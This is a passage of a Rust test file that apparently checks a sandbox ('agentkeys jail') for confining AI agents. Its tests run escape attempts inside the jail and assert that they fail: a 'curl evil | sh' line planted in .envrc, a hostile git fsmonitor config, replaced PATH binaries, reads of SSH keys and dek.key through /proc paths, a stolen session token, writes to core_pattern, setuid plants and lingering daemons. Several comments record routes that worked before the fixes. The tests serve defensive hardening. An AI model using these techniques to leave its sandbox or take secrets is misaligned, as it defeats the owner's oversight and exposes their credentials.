        let sys = std::path::PathBuf::from(env!("CARGO_TARGET_TMPDIR"))
            .join(format!("nixos-system-{}", std::process::id()));
        std::fs::create_dir_all(sys.join("sw/bin")).unwrap();
        let hello = sys.join("sw/bin/ak-nixos-hello");
        std::fs::write(&hello, "#!/bin/sh\necho hello-from-the-system\n").unwrap();
        std::fs::set_permissions(&hello, std::fs::Permissions::from_mode(0o755)).unwrap();
        std::os::unix::fs::symlink(&sys, cs).unwrap();
        Some(sys)
    } else {
        println!("SKIP nixos_current_system_is_bound_back_read_only: needs root (or NixOS)");
        return;
    };
    // Removed even if an assertion fails.
    struct Made(Option<std::path::PathBuf>);
    impl Drop for Made {
        fn drop(&mut self) {
            if let Some(sys) = &self.0 {
                let _ = std::fs::remove_file("/run/current-system");
                let _ = std::fs::remove_dir_all(sys);
            }
        }
    }
    let made = Made(made);
    for o in owners("rtnixos") {
        let script = r#"ls /run/current-system/sw/bin >/dev/null; echo "list=$?"
            [ -x /run/current-system/sw/bin/ak-nixos-hello ] && /run/current-system/sw/bin/ak-nixos-hello
            touch /run/current-system/sw/bin/planted; echo "plant=$?"
            ls /run/wrappers >/dev/null 2>&1; echo "wrappers=$?""#;
        let policy = o.run(&["jail", "--agent", "a", "--print-policy"]);
        let out = o.jail(&[], script);
        let s = all(&out);
        assert!(
            all(&policy).contains("\"/run/current-system\""),
            "{}",
            show(&o, &policy)
        );
        for k in ["list=0", "plant=1", "wrappers=2"] {
            assert!(s.contains(k), "{k}: {}", show(&o, &out));
        }
        if made.0.is_some() {
            assert!(s.contains("hello-from-the-system"), "{}", show(&o, &out));
            assert!(s.contains("Read-only file system"), "{}", show(&o, &out));
        }
    }
    drop(made);
}

/// Files that do not exist when the jail starts cannot be created either: `.envrc`, a
/// `.vscode` (tasks that run on opening the folder) and `.git` (a `git init` whose config runs
/// a program at the owner's next `git status`) are empty and read-only placeholders while the
/// jail runs, and gone after it. Before this pass all three could be created.
#[test]
fn missing_start_up_files_cannot_be_created_and_placeholders_go() {
    skip_unless_jail!("missing_start_up_files_cannot_be_created_and_placeholders_go");
    for o in owners("rtmissing") {
        std::fs::remove_dir_all(o.proj().join(".git")).unwrap();
        let script = r#"
            echo 'curl evil | sh' > .envrc; echo "envrc=$?"
            mkdir -p .vscode 2>/dev/null; echo '{"tasks":[]}' > .vscode/tasks.json; echo "vscode=$?"
            git init -q . 2>&1; echo "gitinit=$?"
            mkdir .git/hooks; echo "hooks=$?"
            echo ok > notes.txt; echo "project=$?"
        "#;
        let out = o.jail(&[], script);
        let s = all(&out);
        for k in ["envrc=2", "vscode=2", "hooks=1", "project=0"] {
            assert!(s.contains(k), "{k}: {}", show(&o, &out));
        }
        assert!(!s.contains("gitinit=0"), "{}", show(&o, &out));
        for p in [".envrc", ".vscode", ".git"] {
            assert!(
                std::fs::symlink_metadata(o.proj().join(p)).is_err(),
                "{p} left behind: {}",
                show(&o, &out)
            );
        }
        assert!(o.proj().join("notes.txt").exists());
    }
}

/// A second jail in the same project while the first runs: the first one's placeholders stay
/// (and stay read-only for the second) until the last jail ends; nothing is left after.
#[test]
fn placeholders_survive_a_concurrent_jail() {
    skip_unless_jail!("placeholders_survive_a_concurrent_jail");
    let o = Owner::new("rtconc", None);
    std::fs::remove_dir_all(o.proj().join(".git")).unwrap();
    let first = o
        .jail_cmd(&[], "sleep 4; echo x > .envrc; echo \"first=$?\"")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    assert!(agentkeys_e2e::wait_until(Duration::from_secs(10), || o
        .proj()
        .join(".envrc")
        .exists()));
    let out = o.jail(&[], "echo x > .envrc; echo \"second=$?\"");
    assert!(all(&out).contains("second=2"), "{}", show(&o, &out));
    let first_out = first.wait_with_output().unwrap();
    assert!(
        all(&first_out).contains("first=2"),
        "{}",
        show(&o, &first_out)
    );
    assert!(std::fs::symlink_metadata(o.proj().join(".envrc")).is_err());
}

/// `--write ~/.config --write ~/.cargo`: the places in them that the owner's tools run by
/// themselves stay read-only, existing or not (`~/.config/git/config`, `~/.config/direnv`,
/// systemd units, autostart entries) and so do directories on the owner's PATH
/// (`~/.cargo/bin/cargo`, a new `~/.cargo/bin/git`). The rest of them is writable. Before
/// this pass `~/.cargo/bin/cargo` could be replaced and `~/.config/git/config` created.
#[test]
fn home_tool_config_and_path_dirs_stay_read_only() {
    skip_unless_jail!("home_tool_config_and_path_dirs_stay_read_only");
    for o in owners("rthome") {
        let h = o.home();
        std::fs::create_dir_all(h.join(".cargo/bin")).unwrap();
        std::fs::create_dir_all(h.join(".config")).unwrap();
        std::fs::write(h.join(".cargo/bin/cargo"), "#!/bin/sh\necho real cargo\n").unwrap();
        std::fs::set_permissions(
            h.join(".cargo/bin/cargo"),
            std::fs::Permissions::from_mode(0o755),
        )
        .unwrap();
        chown(&o, &h);
        let script = format!(
            r#"echo evil > {h}/.cargo/bin/cargo; echo "cargo=$?"
               echo evil > {h}/.cargo/bin/git; echo "newbin=$?"
               mkdir -p {h}/.config/git 2>/dev/null; echo '[core] fsmonitor=evil' > {h}/.config/git/config; echo "gitconfig=$?"
               echo evil > {h}/.config/direnv/direnvrc; echo "direnvrc=$?"
               echo evil > {h}/.config/systemd/evil.service; echo "systemd=$?"
               echo evil > {h}/.config/autostart/evil.desktop; echo "autostart=$?"
               mkdir -p {h}/.config/app && echo ok > {h}/.config/app/settings; echo "app=$?"
               mkdir -p {h}/.cargo/registry && echo ok > {h}/.cargo/registry/x; echo "registry=$?""#,
            h = h.display()
        );
        let path = format!(
            "{}:{}:/usr/bin:/bin",
            h.join(".cargo/bin").display(),
            agentkeys_e2e::bin_dir().display()
        );
        let out = o
            .jail_cmd(
                &[
                    "--write",
                    h.join(".config").to_str().unwrap(),
                    "--write",
                    h.join(".cargo").to_str().unwrap(),
                ],
                &script,
            )
            .env("PATH", &path)
            .stdin(Stdio::null())
            .output()
            .unwrap();
        let s = all(&out);
        for k in [
            "cargo=2",
            "newbin=2",
            "gitconfig=2",
            "direnvrc=2",
            "systemd=2",
            "autostart=2",
            "app=0",
            "registry=0",
        ] {
            assert!(s.contains(k), "{k}: {}", show(&o, &out));
        }
        assert_eq!(
            std::fs::read_to_string(h.join(".cargo/bin/cargo")).unwrap(),
            "#!/bin/sh\necho real cargo\n"
        );
        assert!(!h.join(".cargo/bin/git").exists());
        // The placeholders made for the missing directories are gone again.
        for p in [".config/git", ".config/direnv", ".config/systemd"] {
            assert!(!h.join(p).exists(), "{p} left behind");
        }

        // A writable root that is itself on PATH, and a --write inside `.git`: refused.
        std::fs::create_dir_all(h.join("bin")).unwrap();
        chown(&o, &h.join("bin"));
        let out = o
            .cli(&[
                "jail",
                "--agent",
                "a",
                "--write",
                h.join("bin").to_str().unwrap(),
                "--",
                "true",
            ])
            .env("PATH", format!("{}:/usr/bin:/bin", h.join("bin").display()))
            .stdin(Stdio::null())
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(70), "{}", show(&o, &out));
        assert!(all(&out).contains("is on your PATH"), "{}", show(&o, &out));
        let out = o.run(&["jail", "--agent", "a", "--write", ".git", "--", "true"]);
        assert_eq!(out.status.code(), Some(70), "{}", show(&o, &out));
        assert!(
            all(&out).contains("stays read-only in a jail"),
            "{}",
            show(&o, &out)
        );
    }
}

/// A docker socket under the home (Docker Desktop, rootless setups, colima): unreachable, as
/// `~/.docker` and the container VMs' directories are hidden whole. Before this pass only
/// `~/.docker/config.json` was hidden and a socket beside it answered.
#[test]
fn container_sockets_under_the_home_are_hidden() {
    skip_unless_jail!("container_sockets_under_the_home_are_hidden");
    for o in owners("rtdocker") {
        let docker = o.home().join(".docker/run");
        let colima = o.home().join(".colima/default");
        std::fs::create_dir_all(&docker).unwrap();
        std::fs::create_dir_all(&colima).unwrap();
        chown(&o, &o.home());
        let (d, c) = (docker.join("docker.sock"), colima.join("docker.sock"));
        let server = format!(
            "import socket,time\n\
             a=socket.socket(socket.AF_UNIX); a.bind('{}'); a.listen()\n\
             b=socket.socket(socket.AF_UNIX); b.bind('{}'); b.listen()\n\
             time.sleep(60)\n",
            d.display(),
            c.display()
        );
        let mut srv = o
            .command("/usr/bin/python3", &["-c", &server])
            .spawn()
            .unwrap();
        assert!(agentkeys_e2e::wait_until(Duration::from_secs(10), || c.exists()));
        let client = |p: &std::path::Path| {
            format!(
                "/usr/bin/python3 -c \"import socket\ns=socket.socket(socket.AF_UNIX)\ntry:\n s.connect('{}'); print('CONNECTED')\nexcept OSError as e: print('refused', e.errno)\"",
                p.display()
            )
        };
        let out = o.jail(&[], &format!("{}; {}", client(&d), client(&c)));
        let s = all(&out);
        assert!(!s.contains("CONNECTED"), "{}", show(&o, &out));
        assert_eq!(s.matches("refused 2").count(), 2, "{}", show(&o, &out));
        let _ = srv.kill();
        let _ = srv.wait();
    }
}

/// Syscalls a denylist might miss: each answers EPERM (`clone3` ENOSYS, so libraries fall back
/// to `clone`, whose flags the filter sees), 32-bit `int 0x80` kills the process (SIGSYS),
/// x32 numbers are refused. Before this pass `io_uring_setup` succeeded (io_uring's
/// operations run past a seccomp filter).
#[test]
fn seccomp_refuses_the_calls_a_denylist_might_miss() {
    skip_unless_jail!("seccomp_refuses_the_calls_a_denylist_might_miss");
    let probe = r#"
import ctypes, os
l = ctypes.CDLL(None, use_errno=True)
l.syscall.restype = ctypes.c_long
buf = ctypes.create_string_buffer(256)
calls = {
    "io_uring_setup": (425, 8, buf), "io_uring_enter": (426, 0, 0, 0, 0), "io_uring_register": (427, 0, 0, 0, 0),
    "x32_getpid": (0x40000000 | 39,),
    "unshare_user": (272, 0x10000000), "unshare_mount": (272, 0x00020000), "unshare_net": (272, 0x40000000),
    "clone_newuser": (56, 0x10000000 | 17, 0, 0, 0, 0),
    "setns": (308, 0, 0), "mount": (165, b"none", b"/tmp", b"tmpfs", 0, 0), "umount2": (166, b"/proc", 2),
    "fsopen": (430, b"tmpfs", 0), "open_tree": (428, -100, b"/", 1), "move_mount": (429, -1, b"", -1, b"", 0),
    "mount_setattr": (442, -100, b"/", 0, buf, 32), "pivot_root": (155, b"/", b"/"), "chroot": (161, b"/tmp"),
    "open_by_handle_at": (304, -100, buf, 0), "keyctl": (250, 0, 0), "add_key": (248, b"user", b"x", b"y", 1, -3),
    "bpf": (321, 0, buf, 48), "perf_event_open": (298, buf, 0, -1, -1, 0), "userfaultfd": (323, 0),
    "ptrace_traceme": (101, 0, 0, 0, 0), "process_vm_readv": (310, 1, buf, 1, buf, 1, 0),
    "pidfd_getfd": (438, 0, 0, 0), "kcmp": (312, 1, 1, 0, 0, 0), "ioctl_tiocsti": (16, 0, 0x5412, buf),
    "ioctl_tioclinux": (16, 0, 0x541C, buf), "ioctl_tiocsetd": (16, 0, 0x5423, buf),
    "clone3": (435, buf, 88),
}
for name, args in calls.items():
    r = l.syscall(*args)
    print(name, r, ctypes.get_errno() if r < 0 else "OK")
"#;
    let int80 = r#"
import ctypes, mmap
m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
m.write(bytes([0xb8, 20, 0, 0, 0, 0xcd, 0x80, 0xc3]))  # mov eax, 20 (i386 getpid); int 0x80; ret
f = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))
print("INT80_RAN", f())
"#;
    for o in owners("rtseccomp") {
        let script = format!(
            "/usr/bin/python3 -c '{probe}'; /usr/bin/python3 -c '{int80}'; echo \"int80=$?\""
        );
        let out = o.jail(&[], &script);
        let s = all(&out);
        let mut bad = Vec::new();
        let results = s.lines().filter(|l| {
            let f: Vec<&str> = l.split(' ').collect();
            f.len() == 3 && f[1].parse::<i64>().is_ok()
        });
        for line in results {
            let f: Vec<&str> = line.split(' ').collect();
            let want = if f[0] == "clone3" { "38" } else { "1" };
            if f[1] != "-1" || f[2] != want {
                bad.push(line.to_string());
            }
        }
        assert!(bad.is_empty(), "allowed: {bad:?}\n{}", show(&o, &out));
        assert!(s.contains("io_uring_setup -1 1"), "{}", show(&o, &out));
        assert_eq!(s.matches(" -1 ").count(), 31, "{}", show(&o, &out));
        assert!(
            s.contains("int80=159") && !s.contains("INT80_RAN"),
            "{}",
            show(&o, &out)
        );
    }
}

/// The session handed to the jail, copied out to a file in the project and used from outside
/// while the jail runs: it is still the jail's agent (no owner command, nothing out of scope)
/// and a `run` with it is confined by the jail's rules (no `dek.key`); once the jail ends it
/// opens nothing. Documented residual: inside its lifetime it works from outside the jail,
/// within the agent's scope (the daemon does not tie it to the jail's PID namespace).
#[test]
fn the_jails_session_taken_outside_stays_the_jails() {
    skip_unless_jail!("the_jails_session_taken_outside_stays_the_jails");
    for o in owners("rtsession") {
        let tok = o.proj().join("stolen.token");
        let mut child = o
            .jail_cmd(
                &[],
                "cat /dev/agentkeys/session > stolen.tmp && chmod 600 stolen.tmp && mv stolen.tmp stolen.token; sleep 30",
            )
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        assert!(agentkeys_e2e::wait_until(Duration::from_secs(10), || tok.exists()));
        let key = std::fs::read(o.akhome().join("dek.key")).unwrap();
        let with_token = |args: &[&str]| {
            o.cli(args)
                .env_remove("AGENTKEYS_TOKEN")
                .env("AGENTKEYS_TOKEN_FILE", &tok)
                .stdin(Stdio::null())
                .output()
                .unwrap()
        };
        let out = with_token(&["whoami"]);
        assert!(all(&out).contains("jailed (j-"), "{}", show(&o, &out));
        let out = with_token(&["agent", "list"]);
        assert_eq!(out.status.code(), Some(5), "{}", show(&o, &out));
        let out = with_token(&["read", "other"]);
        assert_eq!(out.status.code(), Some(5), "{}", show(&o, &out));
        assert!(!all(&out).contains(OTHER_SECRET));
        let dek = o.akhome().join("dek.key");
        let out = with_token(&["run", "--env", "T=gh", "--", "cat", dek.to_str().unwrap()]);
        let raw = [out.stdout.clone(), out.stderr.clone()].concat();
        assert!(
            !agentkeys_e2e::contains(&raw, &key),
            "the key came out: {}",
            show(&o, &out)
        );
        assert_ne!(out.status.code(), Some(0), "{}", show(&o, &out));
        let _ = child.kill();
        let _ = child.wait();
        assert!(agentkeys_e2e::wait_until(Duration::from_secs(10), || {
            let out = with_token(&["whoami"]);
            all(&out).contains("unknown session token")
        }));
    }
}

/// Hidden paths by other ways: `/proc/self/root`, `/proc/1/root`, `/proc/1/cwd`, a home given
/// through a symbolic link, `open_by_handle_at` with a handle made inside; and `--write` of
/// the home spelled `home/`, `home/.`, `proj/../home`, `//home`: refused.
#[test]
fn hidden_paths_by_other_spellings() {
    skip_unless_jail!("hidden_paths_by_other_spellings");
    for o in owners("rtspell") {
        let ssh = o.home().join(".ssh");
        std::fs::create_dir_all(&ssh).unwrap();
        std::fs::write(ssh.join("id_ed25519"), SECRET).unwrap();
        let link = o.base.join("homelink");
        std::os::unix::fs::symlink(o.home(), &link).unwrap();
        chown(&o, &o.home());
        let ak = o.akhome();
        let script = format!(
            r#"cat /proc/self/root{ak}/dek.key; echo "self_root=$?"
               cat /proc/1/root{ak}/dek.key; echo "init_root=$?"
               cat /proc/1/cwd/../home/.agentkeys/dek.key; echo "init_cwd=$?"
               cat "$HOME/.ssh/id_ed25519"; echo "ssh_via_link=$?"
               cat "$HOME/.agentkeys/dek.key"; echo "ak_via_link=$?"
               ls -A "$HOME/.agentkeys" | grep -c enc; echo "listed"
               grep -c agentkeys /proc/self/mountinfo >/dev/null; echo "mountinfo=$?""#,
            ak = ak.display()
        );
        let out = o
            .jail_cmd(&[], &script)
            .env("HOME", &link)
            .stdin(Stdio::null())
            .output()
            .unwrap();
        let s = all(&out);
        for k in [
            "self_root=1",
            "init_root=1",
            "init_cwd=1",
            "ssh_via_link=1",
            "ak_via_link=1",
        ] {
            assert!(s.contains(k), "{k}: {}", show(&o, &out));
        }
        assert!(s.contains("0\nlisted"), "{}", show(&o, &out));
        assert!(!s.contains(SECRET), "{}", show(&o, &out));
        let home = o.home();
        let h = home.to_str().unwrap();
        let p = o.proj();
        for w in [
            format!("{h}/"),
            format!("{h}/."),
            format!("{}/../home", p.display()),
            format!("/{h}"),
            link.display().to_string(),
        ] {
            let out = o.run(&["jail", "--agent", "a", "--write", &w, "--", "true"]);
            assert_eq!(out.status.code(), Some(70), "{w}: {}", show(&o, &out));
            assert!(
                all(&out).contains("would make your home directory"),
                "{w}: {}",
                show(&o, &out)
            );
        }
    }
}

/// The owner's `/tmp`, `/dev/shm`, other terminals and `/run/user` are not the jail's: a
/// canary the owner leaves in `/tmp` and `/dev/shm` is not there, `/dev/pts` holds only the
/// jail's own `ptmx`, `/run/user` is empty.
#[test]
fn shared_temporary_places_and_terminals_are_private() {
    skip_unless_jail!("shared_temporary_places_and_terminals_are_private");
    for o in owners("rttmp") {
        let name = format!("ak-rt-{}-{}", std::process::id(), o.uid.unwrap_or(0));
        for d in ["/tmp", "/dev/shm"] {
            std::fs::write(format!("{d}/{name}"), SECRET).unwrap();
            let _ = std::fs::set_permissions(
                format!("{d}/{name}"),
                std::fs::Permissions::from_mode(0o644),
            );
        }
        let script = format!(
            r#"cat /tmp/{name}; echo "tmp=$?"
               cat /dev/shm/{name}; echo "shm=$?"
               echo "pts=$(ls /dev/pts | tr '\n' ' ')"
               cat /dev/pts/0 </dev/null; echo "pts0=$?"
               echo "runuser=$(ls -A /run/user 2>/dev/null | wc -l)"
               echo "dev=$(ls /dev | tr '\n' ' ')""#
        );
        let out = o.jail(&[], &script);
        let s = all(&out);
        for d in ["/tmp", "/dev/shm"] {
            let _ = std::fs::remove_file(format!("{d}/{name}"));
        }
        for k in ["tmp=1", "shm=1", "pts=ptmx \n", "pts0=1", "runuser=0"] {
            assert!(s.contains(k), "{k:?}: {}", show(&o, &out));
        }
        assert!(!s.contains(SECRET), "{}", show(&o, &out));
        assert!(
            !s.contains(" sda") && !s.contains(" mem ") && !s.contains(" kmsg"),
            "{}",
            show(&o, &out)
        );
    }
}

/// Credentials in values and in names that are words: `DATABASE_URL` with a password,
/// `PIP_INDEX_URL` with a token, `MYSQL_PWD`, `SENTRY_DSN`, `GITLAB_PAT` are removed (before
/// this pass they passed); `LD_LIBRARY_PATH` and other `*_PATH` names, `PWD` and a URL with
/// a plain user name pass (before, every `*_PATH` name was removed).
#[test]
fn credentials_in_values_and_word_names_are_removed() {
    skip_unless_jail!("credentials_in_values_and_word_names_are_removed");
    for o in owners("rtenv") {
        let out = o
            .jail_cmd(
                &[],
                "for v in DATABASE_URL PIP_INDEX_URL MYSQL_PWD SENTRY_DSN GITLAB_PAT LD_LIBRARY_PATH GRPC_DEFAULT_SSL_ROOTS_FILE_PATH REPO_URL; do eval \"echo $v=\\${$v:-unset}\"; done",
            )
            .env("DATABASE_URL", "postgres://app:pw_canary_1@db.internal/x")
            .env("PIP_INDEX_URL", "https://__token__:pypi-canary2@pypi.example/simple")
            .env("MYSQL_PWD", "pw_canary_3")
            .env("SENTRY_DSN", "https://k_canary_4@o1.ingest.sentry.io/1")
            .env("GITLAB_PAT", "glpat-canary5")
            .env("LD_LIBRARY_PATH", "/opt/lib")
            .env("GRPC_DEFAULT_SSL_ROOTS_FILE_PATH", "/etc/ssl/roots.pem")
            .env("REPO_URL", "ssh://git@github.com/o/r")
            .stdin(Stdio::null())
            .output()
            .unwrap();
        let s = all(&out);
        for k in [
            "DATABASE_URL=unset",
            "PIP_INDEX_URL=unset",
            "MYSQL_PWD=unset",
            "SENTRY_DSN=unset",
            "GITLAB_PAT=unset",
            "LD_LIBRARY_PATH=/opt/lib",
            "GRPC_DEFAULT_SSL_ROOTS_FILE_PATH=/etc/ssl/roots.pem",
            "REPO_URL=ssh://git@github.com/o/r",
        ] {
            assert!(s.contains(k), "{k}: {}", show(&o, &out));
        }
        assert!(!s.contains("canary"), "{}", show(&o, &out));
        assert!(
            s.contains("removed from the environment:") && s.contains("DATABASE_URL"),
            "{}",
            show(&o, &out)
        );
    }
}

/// Nothing of the jail is left behind: not a double-forked `setsid` daemon, not a `nohup`
/// process, not a background process of the agent's own `run`; and when the owner (or
/// anything outside) SIGKILLs the jail's init, everything inside goes with it.
#[test]
fn nothing_is_left_behind() {
    skip_unless_jail!("nothing_is_left_behind");
    for o in owners("rtleft") {
        let m = format!("{}.{}", 300 + std::process::id() % 500, o.uid.unwrap_or(1));
        let script = format!(
            "setsid sh -c 'sleep {m} &' ; nohup sleep {m} >/dev/null 2>&1 & \
             agentkeys run --env T=gh -- sh -c 'setsid sleep {m} >/dev/null 2>&1 & exit 0'; \
             sleep 0.5; exit 0"
        );
        let out = o.jail(&[], &script);
        assert_eq!(out.status.code(), Some(0), "{}", show(&o, &out));
        assert!(
            agentkeys_e2e::wait_until(Duration::from_secs(10), || pids_running(&["sleep", &m])
                .is_empty()),
            "a process of the jail survived: {}",
            show(&o, &out)
        );

        // SIGKILL to the jail's init from outside.
        let m2 = format!("{}.{}5", 300 + std::process::id() % 500, o.uid.unwrap_or(1));
        let child = o
            .jail_cmd(&[], &format!("sleep {m2} & sleep {m2}; echo NOT_KILLED"))
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let mut init = None;
        assert!(agentkeys_e2e::wait_until(Duration::from_secs(10), || {
            let p = pids_running(&["sleep", &m2]);
            if p.len() < 2 {
                return false;
            }
            // sleep -> sh (CMD) -> init
            let ppid = |pid: u32| -> Option<u32> {
                let st = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
                st.rsplit(") ").next()?.split(' ').nth(1)?.parse().ok()
            };
            init = ppid(p[0]).and_then(ppid);
            init.is_some()
        }));
        let init = init.unwrap();
        assert_eq!(
            std::fs::read_to_string(format!("/proc/{init}/comm"))
                .unwrap()
                .trim(),
            "agentkeys-jail"
        );
        nix::sys::signal::kill(
            nix::unistd::Pid::from_raw(init as i32),
            nix::sys::signal::Signal::SIGKILL,
        )
        .unwrap();
        let out = child.wait_with_output().unwrap();
        assert!(!all(&out).contains("NOT_KILLED"), "{}", show(&o, &out));
        assert_ne!(out.status.code(), Some(0), "{}", show(&o, &out));
        assert!(
            agentkeys_e2e::wait_until(Duration::from_secs(10), || pids_running(&["sleep", &m2])
                .is_empty()),
            "the jail's processes survived its init"
        );
    }
}

/// The kernel's global settings and the system's service sockets. A root owner's agent is uid
/// 0 without capabilities, and `/proc/sys` checks only the owner's write bit: before this pass
/// it could write `kernel.core_pattern` (a program the kernel runs as root, outside any jail,
/// at the next crash) and `vm.drop_caches`; now `/proc/sys` is read-only for every owner. All
/// of `/run` is hidden: a socket a service of the owner serves there (PostgreSQL's, with peer
/// authentication; for root, every root-only one) answered before; `/etc/resolv.conf` still
/// reads.
#[test]
fn kernel_settings_and_run_are_out_of_reach() {
    skip_unless_jail!("kernel_settings_and_run_are_out_of_reach");
    if !is_root() {
        println!("SKIP kernel_settings_and_run_are_out_of_reach: needs root to serve in /run");
        return;
    }
    for o in owners("rtproc") {
        let dir = std::path::PathBuf::from(format!(
            "/run/ak-rt-{}-{}",
            std::process::id(),
            o.uid.unwrap_or(0)
        ));
        std::fs::create_dir_all(&dir).unwrap();
        chown(&o, &dir);
        let sock = dir.join("service.sock");
        let server = format!(
            "import socket,time\n\
             s=socket.socket(socket.AF_UNIX); s.bind('{}'); s.listen()\n\
             time.sleep(60)\n",
            sock.display()
        );
        let mut srv = o
            .command("/usr/bin/python3", &["-c", &server])
            .spawn()
            .unwrap();
        assert!(agentkeys_e2e::wait_until(Duration::from_secs(10), || sock.exists()));
        let resolv = std::fs::read("/etc/resolv.conf").is_ok();
        let script = format!(
            r#"v=$(cat /proc/sys/kernel/core_pattern); printf '%s\n' "$v" > /proc/sys/kernel/core_pattern; echo "core_pattern=$?"
               echo 1 > /proc/sys/vm/drop_caches; echo "drop_caches=$?"
               echo "userns=$(cat /proc/sys/user/max_user_namespaces)"
               cat /etc/resolv.conf >/dev/null; echo "resolv=$?"
               /usr/bin/python3 -c "import socket
s=socket.socket(socket.AF_UNIX)
try:
    s.connect('{}'); print('CONNECTED')
except OSError as e: print('refused', e.errno)""#,
            sock.display()
        );
        let out = o.jail(&[], &script);
        let _ = srv.kill();
        let _ = srv.wait();
        let _ = std::fs::remove_dir_all(&dir);
        let s = all(&out);
        for k in ["core_pattern=2", "drop_caches=2", "userns=0", "refused 2"] {
            assert!(s.contains(k), "{k}: {}", show(&o, &out));
        }
        assert!(s.contains("Read-only file system"), "{}", show(&o, &out));
        assert!(!s.contains("CONNECTED"), "{}", show(&o, &out));
        if resolv {
            assert!(s.contains("resolv=0"), "{}", show(&o, &out));
        }
    }
}

/// `agentkeys jail` inside a jail (a jail the agent would own, with a policy of its choosing)
/// is refused, and so is asking the daemon for one with the jail's session.
#[test]
fn a_jail_cannot_start_a_jail() {
    skip_unless_jail!("a_jail_cannot_start_a_jail");
    for o in owners("rtnest") {
        let out = o.jail(
            &[],
            "agentkeys jail --agent a -- true; echo \"nested=$?\"; \
             AGENTKEYS_TOKEN_FILE=/dev/agentkeys/session agentkeys jail --agent a -- true; echo \"with_token=$?\"",
        );
        let s = all(&out);
        assert!(
            s.contains("nested=5") && s.contains("with_token=5"),
            "{}",
            show(&o, &out)
        );
        assert!(s.contains("refused inside a jail"), "{}", show(&o, &out));
    }
}

/// A set-user-ID program planted in a writable root. Inside, nosuid makes it harmless; but
/// outside the jail the project is an ordinary mount: before this pass a root owner's agent
/// (uid 0) made a set-user-ID-root copy of `id` with `chmod 4755` (or `open(O_CREAT, 06755)`)
/// that any other local user ran as root. Now `chmod`/`fchmod(at)`/`mknod(at)`/`creat`/`open(at)`
/// with S_ISUID or S_ISGID answer EPERM (openat2, whose mode a filter cannot see, ENOSYS); an
/// ordinary `chmod 700` and `open(O_CREAT, 0644)` work.
#[test]
fn no_set_id_program_can_be_planted() {
    skip_unless_jail!("no_set_id_program_can_be_planted");
    let probe = r#"
import os
for name, fl in (("creat", os.O_CREAT | os.O_WRONLY), ("tmpfile", os.O_TMPFILE | os.O_WRONLY)):
    try:
        fd = os.open("suid2" if name == "creat" else ".", fl, 0o6755)
        print(name, "CREATED", oct(os.fstat(fd).st_mode))
    except OSError as e:
        print(name, "errno", e.errno)
os.close(os.open("plain", os.O_CREAT | os.O_WRONLY, 0o644)); print("plain ok")
"#;
    for o in owners("rtsuid") {
        let script = format!(
            r#"cp /usr/bin/id ./suid-id
               chmod 4755 ./suid-id; echo "chmod_u=$?"
               chmod g+s ./suid-id; echo "chmod_g=$?"
               chmod 700 ./suid-id; echo "chmod_plain=$?"
               /usr/bin/python3 -c '{probe}'"#
        );
        let out = o.jail(&[], &script);
        let s = all(&out);
        for k in [
            "chmod_u=1",
            "chmod_g=1",
            "chmod_plain=0",
            "creat errno 1",
            "tmpfile errno 1",
            "plain ok",
        ] {
            assert!(s.contains(k), "{k}: {}", show(&o, &out));
        }
        assert!(!s.contains("CREATED"), "{}", show(&o, &out));
        for f in ["suid-id", "suid2"] {
            if let Ok(m) = std::fs::metadata(o.proj().join(f)) {
                assert_eq!(
                    m.permissions().mode() & 0o6000,
                    0,
                    "{f} is set-ID: {}",
                    show(&o, &out)
                );
            }
        }
    }
}

/// A directory on the owner's PATH that does not exist yet inside the project
/// (`proj/node_modules/.bin`, as direnv's `PATH_add` leaves it): made as a read-only
/// placeholder, so the agent cannot put a `git` there for the owner's shell. Renaming the
/// placeholder's parent away (then `mkdir -p node_modules/.bin`, or a symlink to a directory
/// of the owner's) worked in this pass's first fix; now every directory between a writable
/// root and a protected path is a mount point of its own (`Device or resource busy`), and so
/// is `.cargo` above an existing `.cargo/config.toml`. And should a placeholder's parent be a
/// symlink when the jail ends, `agentkeys jail` removes nothing through it.
#[test]
fn placeholders_on_path_and_cleanup_through_a_symlink() {
    skip_unless_jail!("placeholders_on_path_and_cleanup_through_a_symlink");
    for o in owners("rtpathph") {
        let victim = o.base.join("victim");
        std::fs::create_dir_all(victim.join(".bin")).unwrap();
        chown(&o, &victim);
        let bin = o.proj().join("node_modules/.bin");
        std::fs::create_dir_all(o.proj().join(".cargo")).unwrap();
        std::fs::write(o.proj().join(".cargo/config.toml"), "").unwrap();
        chown(&o, &o.proj());
        let script = format!(
            r#"echo evil > node_modules/.bin/git; echo "plant=$?"
               mv node_modules nm2; echo "mv=$?"
               rm -rf node_modules 2>/dev/null; ln -sT {v} node_modules; echo "link=$?"
               mv .cargo .cargo2; echo "mv_cargo=$?"
               echo x > .cargo/other.toml; echo "cargo_other=$?""#,
            v = victim.display()
        );
        let path = format!(
            "{}:{}:/usr/bin:/bin",
            bin.display(),
            agentkeys_e2e::bin_dir().display()
        );
        let out = o
            .jail_cmd(&[], &script)
            .env("PATH", &path)
            .stdin(Stdio::null())
            .output()
            .unwrap();
        let s = all(&out);
        for k in ["plant=2", "mv=1", "link=1", "mv_cargo=1", "cargo_other=0"] {
            assert!(s.contains(k), "{k}: {}", show(&o, &out));
        }
        assert!(s.contains("Device or resource busy"), "{}", show(&o, &out));
        assert!(
            victim.join(".bin").is_dir(),
            "the owner's directory was removed through the symlink: {}",
            show(&o, &out)
        );
        assert!(!o.proj().join("nm2").exists() && !o.proj().join(".cargo2").exists());
        // The placeholders (node_modules and its .bin) are gone again.
        assert!(
            std::fs::symlink_metadata(o.proj().join("node_modules")).is_err(),
            "{}",
            show(&o, &out)
        );
    }
}
